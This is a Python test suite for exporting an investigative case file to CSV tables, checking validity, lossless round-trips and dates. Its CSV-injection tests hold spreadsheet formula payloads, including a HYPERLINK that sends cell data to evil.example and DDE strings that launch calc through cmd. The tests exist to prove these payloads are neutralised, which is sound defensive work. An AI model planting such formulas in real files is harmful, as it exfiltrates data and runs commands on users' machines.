"""The tables: RFC 4180 CSVs that a Frictionless validator accepts, that a spreadsheet cannot
run, and that give back every record exactly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import frictionless
import pytest

from build_scripts import models
from build_scripts.checker import Case, check
from build_scripts.dates import parse_date
from build_scripts.tables import (
    PACKAGE_PATH,
    TABLES,
    data_tables,
    neutralise_cell,
    restore_cell,
)
from tests.cases import write_case

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "casefile"
HOSTILE = ROOT / "tests" / "hostile" / "casefile"


def checked(root: Path) -> Case:
    report, case = check(root)
    assert case is not None, [f.message for f in report.findings]
    return case


@pytest.fixture(scope="module", params=[EXAMPLE, HOSTILE], ids=["example", "hostile"])
def case(request: pytest.FixtureRequest) -> Case:
    return checked(request.param)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def write(files: dict[str, str], out: Path) -> Path:
    for path, text in files.items():
        (out / path).parent.mkdir(parents=True, exist_ok=True)
        (out / path).write_bytes(text.encode("utf-8"))
    return out / PACKAGE_PATH


# -- the reader: CSV -> records, as a user of the download would write it ----------------------


def _text(row: dict[str, str], *names: str) -> dict[str, str]:
    return {n: restore_cell(row[n]) for n in names if row[n] != ""}


def _listed(table: list[dict[str, str]], key: str) -> dict[str, list[dict[str, str]]]:
    out: dict[str, list[dict[str, str]]] = {}
    for row in sorted(table, key=lambda r: (r[key], int(r["position"]))):
        out.setdefault(row[key], []).append(row)
    return out


def _tags(row: dict[str, str]) -> list[str]:
    return row["tags"].split(" ") if row["tags"] else []


def read_records(files: dict[str, str]) -> dict[str, dict[str, dict[str, object]]]:
    """kind -> id -> the record's fields, rebuilt from the CSVs alone."""
    t = {
        path.removeprefix("data/").removesuffix(".csv"): rows(text) for path, text in files.items()
    }
    aliases, roles = _listed(t["actor_aliases"], "actor"), _listed(t["actor_roles"], "actor")
    authors = _listed(t["source_authors"], "source")
    actors_of, sources_of = (
        _listed(t["event_actors"], "event"),
        _listed(t["event_sources"], "event"),
    )
    related = _listed(t["event_related"], "event")
    not_dup = _listed(t["event_not_duplicate_of"], "event")
    about = _listed(t["quote_about"], "quote")
    out: dict[str, dict[str, dict[str, object]]] = {k: {} for k in models.KIND}
    for r in t["actors"]:
        links = _text(r, "website", "wikipedia", "wikidata")
        out["actor"][r["id"]] = {
            **_text(r, "file", "name", "kind", "description", "notes"),
            "aliases": [restore_cell(a["alias"]) for a in aliases.get(r["id"], [])],
            "roles": [
                _text(role, "title", "organization", "start", "end")
                for role in roles.get(r["id"], [])
            ],
            "tags": _tags(r),
            **({"links": links} if links else {}),
        }
    for r in t["sources"]:
        out["source"][r["id"]] = {
            **_text(r, "file", "title", "kind", "publisher", "url", "archive_url"),
            **_text(r, "published", "accessed", "language", "notes"),
            "authors": [restore_cell(a["author"]) for a in authors.get(r["id"], [])],
            "text_public": r["text_public"] == "true",
            "tags": _tags(r),
        }
    for r in t["events"]:
        out["event"][r["id"]] = {
            **_text(r, "file", "title", "date", "date_note", "status", "summary", "location"),
            **_text(r, "notes"),
            "actors": [_text(a, "actor", "role") for a in actors_of.get(r["id"], [])],
            "sources": [
                _text(s, "source", "locator", "excerpt") for s in sources_of.get(r["id"], [])
            ],
            "related": [e["related"] for e in related.get(r["id"], [])],
            "not_duplicate_of": [e["other"] for e in not_dup.get(r["id"], [])],
            "tags": _tags(r),
        }
    for r in t["quotes"]:
        out["quote"][r["id"]] = {
            **_text(r, "file", "text", "speaker", "date", "event", "context", "language"),
            **_text(r, "translation", "notes"),
            "source": _text(r, "source", "locator", "excerpt"),
            "about": [a["actor"] for a in about.get(r["id"], [])],
            "tags": _tags(r),
        }
    return out


def as_written(case: Case) -> dict[str, dict[str, dict[str, object]]]:
    """kind -> id -> the record's fields as the format holds them: a citation or an actor given
    as a bare id is the same as the mapping with only that id."""
    out: dict[str, dict[str, dict[str, object]]] = {k: {} for k in models.KIND}
    for record in case.records.values():
        data = record.data.model_dump(mode="json", exclude_none=True)
        if record.kind == "event":
            data["actors"] = [{"actor": a} if isinstance(a, str) else a for a in data["actors"]]
            data["sources"] = [{"source": s} if isinstance(s, str) else s for s in data["sources"]]
        if record.kind == "quote" and isinstance(data["source"], str):
            data["source"] = {"source": data["source"]}
        out[record.kind][record.id] = {"file": record.path.name, **data}
    return out


# -- tests -------------------------------------------------------------------------------------


def test_the_package_is_valid_with_its_keys_and_foreign_keys(case: Case, tmp_path: Path) -> None:
    report = frictionless.validate(str(write(data_tables(case), tmp_path)))
    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "note"])
    assert [task.name for task in report.tasks] == [t.name for t in TABLES]


def test_a_broken_reference_is_caught_by_the_validator(tmp_path: Path) -> None:
    """The foreign keys are really declared: an event naming an unknown actor fails."""
    files = data_tables(checked(EXAMPLE))
    files["data/event_actors.csv"] += "blinken-announces-offer,99,nobody,\r\n"
    report = frictionless.validate(str(write(files, tmp_path)))
    assert not report.valid
    assert report.flatten(["type"]) == [["foreign-key"]]


def test_files_are_rfc_4180(case: Case) -> None:
    for path, text in data_tables(case).items():
        if not path.endswith(".csv"):
            continue
        assert text.endswith("\r\n"), path
        assert not text.startswith("\ufeff")
        header = text.split("\r\n", 1)[0]
        table = next(t for t in TABLES if t.path == path)
        assert header == ",".join(c.name for c in table.columns)
        parsed = list(csv.reader(io.StringIO(text, newline="")))
        assert all(len(row) == len(table.columns) for row in parsed), path
        # A line break outside quotes is always CRLF.
        outside = "".join(text.split('"')[::2])
        assert "\n" not in outside.replace("\r\n", ""), path


def test_one_row_per_record(case: Case) -> None:
    files = data_tables(case)
    for kind in models.KIND_LIST:
        ids = [r["id"] for r in rows(files[f"data/{kind.folder}.csv"])]
        assert ids == sorted(r.id for r in case.of_kind(kind.name))


def test_the_round_trip_loses_nothing_the_format_holds(case: Case) -> None:
    files = data_tables(case)
    assert read_records({p: t for p, t in files.items() if p.endswith(".csv")}) == as_written(case)
    package = json.loads(files[PACKAGE_PATH])
    assert package["case"] == case.meta.model_dump(mode="json", exclude_none=True)


def test_every_field_of_the_format_has_a_column_or_a_table() -> None:
    columns = {c.name for t in TABLES for c in t.columns}
    lists = {"aliases", "roles", "authors", "actors", "sources", "related", "not_duplicate_of"}
    lists |= {"about", "links"}
    for model in (models.Actor, models.Source, models.Event, models.Quote, models.Role):
        missing = set(model.model_fields) - columns - lists
        assert not missing, (model.__name__, missing)


def test_dates_come_with_their_earliest_and_latest_day(case: Case) -> None:
    for path, text in data_tables(case).items():
        if not path.endswith(".csv"):
            continue
        for row in rows(text):
            for name in row:
                if f"{name}_earliest" not in row or not row[name]:
                    continue
                parsed = parse_date(row[name])
                earliest = parsed.earliest.isoformat() if parsed.start else ""
                latest = parsed.latest.isoformat() if parsed.end else ""
                assert (row[f"{name}_earliest"], row[f"{name}_latest"]) == (earliest, latest)


def test_example_dates_as_written() -> None:
    files = data_tables(checked(EXAMPLE))
    sources = {r["id"]: r for r in rows(files["data/sources.csv"])}
    agency = sources["agency-biden-no-plans-to-call-putin"]
    assert (agency["published"], agency["published_earliest"], agency["published_latest"]) == (
        "2022-08-04?/..",
        "2022-08-04",
        "",
    )
    cnn = sources["cnn-officials-frustrated-at-moscow-response"]
    assert (cnn["published_earliest"], cnn["published_latest"]) == ("2022-07-28", "2022-07-31")
    assert cnn["url"] == "" and cnn["publisher"] == "CNN" and cnn["text_public"] == "false"


# -- CSV injection -----------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_neutralised_and_restored(value: str) -> None:
    written = neutralise_cell(value)
    assert written == "'" + value
    assert restore_cell(written) == value


@pytest.mark.parametrize(
    "value", ["'=already quoted", "''-two", "'plain", "plain", "a=b", "", "'", "-"]
)
def test_neutralising_is_reversible_for_any_text(value: str) -> None:
    written = neutralise_cell(value)
    assert not written[:1] or written[0] not in "=+-@\t\r"
    assert restore_cell(written) == value


def test_hostile_cells_in_records(tmp_path: Path) -> None:
    """Formulas in every kind of text field come out neutralised, and the documented reading
    gives back the text, including a legitimately negative-looking value."""
    root = write_case(
        tmp_path,
        **{
            "actors/ann.yml": "name: \"=cmd|' /C calc'!A0\"\nkind: person\n"
            'aliases: ["@SUM(1)", "+1"]\n',
            "sources/memo.yml": "title: '-5 °C in Moscow'\nkind: document\n"
            'authors: ["=A1"]\npublisher: "\'=already"\n',
            "events/meeting.yml": "title: '+ a meeting'\ndate: 2022-07-27\nstatus: reported\n"
            "sources: [{source: memo, locator: '-1'}]\n"
            "actors: [{actor: ann, role: '@lead'}]\nlocation: '=HYPERLINK(\"x\")'\n",
        },
    )
    case = checked(root)
    files = data_tables(case)
    actor = rows(files["data/actors.csv"])[0]
    assert actor["name"] == "'=cmd|' /C calc'!A0"
    source = rows(files["data/sources.csv"])[0]
    assert source["title"] == "'-5 °C in Moscow"
    assert source["publisher"] == "''=already"
    assert rows(files["data/source_authors.csv"])[0]["author"] == "'=A1"
    assert rows(files["data/event_sources.csv"])[0]["locator"] == "'-1"
    assert rows(files["data/event_actors.csv"])[0]["role"] == "'@lead"
    for path, text in files.items():
        if path.endswith(".csv"):
            for row in csv.reader(io.StringIO(text, newline="")):
                assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row)
    back = read_records({p: t for p, t in files.items() if p.endswith(".csv")})
    assert back == as_written(case)
    assert back["source"]["memo"]["title"] == "-5 °C in Moscow"
    assert back["source"]["memo"]["publisher"] == "'=already"


def test_the_data_page_links_every_table() -> None:
    from build_scripts.pages import render_site

    page = render_site(checked(EXAMPLE)).files["data.md"]
    for table in TABLES:
        assert f'href="{table.name}.csv">{table.name}.csv</a>' in page


def test_output_is_deterministic() -> None:
    assert data_tables(checked(EXAMPLE)) == data_tables(checked(EXAMPLE))
